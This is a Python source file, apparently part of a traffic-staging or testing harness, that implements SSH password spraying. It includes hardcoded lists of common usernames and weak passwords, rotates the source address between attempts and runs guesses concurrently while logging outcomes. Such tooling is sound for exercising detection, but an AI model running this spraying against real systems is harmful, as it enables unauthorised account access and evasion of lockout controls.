"""Password guessing over ssh: bounded in number, in width and in time."""

import concurrent.futures

from stage import ssh
from stage.clock import now

NAMES = ("root", "admin", "test", "oracle", "postgres", "ubuntu", "git", "user", "ftpuser", "deploy", "webadmin", "ops",
         "mysql", "hadoop", "pi", "support", "nagios", "minecraft", "steam", "tomcat")
PASSWORDS = ("123456", "password", "admin", "12345678", "qwerty", "1q2w3e4r", "letmein", "abc123", "root", "toor", "P@ssw0rd",
             "changeme", "welcome1", "test123", "master", "server", "111111", "passw0rd", "linux", "secret")
PER_CONNECTION = 3


def spray(host, facts, addresses, names, rounds: int, width: int) -> None:
    """`rounds` connections per name with three passwords each, from the addresses in turn, `width` at a time."""
    tries = [(name, n) for n in range(rounds) for name in names]
    with concurrent.futures.ThreadPoolExecutor(width) as pool:
        waiting = [pool.submit(guess, host, facts, addresses[i % len(addresses)], name, _words(name, n))
                   for i, (name, n) in enumerate(tries)]
        for one in waiting:
            one.result()


def guess(host, facts, address: str, account: str, passwords: list) -> bool:
    """One connection; true when one of the passwords was right."""
    started_at = now()
    outcome = ssh.with_passwords(host.work, address, account, passwords)
    facts.guessed(address, account, started_at, outcome.refused)
    return outcome.opened


def _words(name: str, n: int) -> list:
    start = n * PER_CONNECTION + len(name)
    return [PASSWORDS[(start + k) % len(PASSWORDS)] for k in range(PER_CONNECTION)]
